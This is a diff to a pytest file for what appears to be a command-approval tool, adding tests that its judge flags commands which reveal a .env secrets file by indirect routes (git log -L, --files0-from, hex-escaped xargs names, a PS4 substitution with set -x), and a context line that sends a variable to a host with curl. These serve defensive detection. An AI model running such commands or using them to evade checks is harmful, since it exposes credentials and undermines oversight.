@@ -6,6 +6,7 @@ import pytest
 
 from tests.approval.test_faults import judge
 from tests.support import each
+from whet.approval.risk import Shown
 
 
 @each(
@@ -51,3 +52,40 @@ def test_a_variable_is_a_secret_by_its_value_too(monkeypatch: pytest.MonkeyPatch
     sends = "may send keys or passwords over the network"
     assert judge("curl https://a.b/?x=${HOOK}").reasons == (sends,)
     assert judge("curl https://a.b/?x=$SITE").reasons == ()
+
+
+@each(
+    "command",
+    [
+        "git log -L1,1:.env",
+        "git -C sub show :sub/.env",
+        "git --no-pager -C sub log -L1,1:.env",
+        "file -f .env",
+        "wc --files0-from=.env",
+        "du --files0-from .env",
+        "find -files0-from .env",
+        r"printf '.env\0' | xargs -0 cat",
+        r"printf '\x2eenv\0' | xargs -0 cat",
+        "PS4='$(cat .env)'; set -x; ls",
+        "export PS4='$(cat .env)'; set -x; ls",
+    ],
+)
+def test_a_file_with_keys_that_a_command_names_is_shown_only_after_a_question(command: str) -> None:
+    pieces = judge(command).commands
+    assert any(isinstance(reason, Shown) for piece in pieces for reason in piece.reasons)
+
+
+@each(
+    "command",
+    [
+        "ls .env",
+        "wc -l .env",
+        "find . -name .env",
+        "git log --oneline -- .env",
+        "git log -L1,1:a.txt",
+        r"printf '%s\0' a.txt | xargs -0 cat",
+        "wc --files0-from=list",
+    ],
+)
+def test_a_command_that_shows_no_keys_is_not_taken_for_one(command: str) -> None:
+    assert [reason for reason in judge(command).reasons if "secrets" in reason] == []
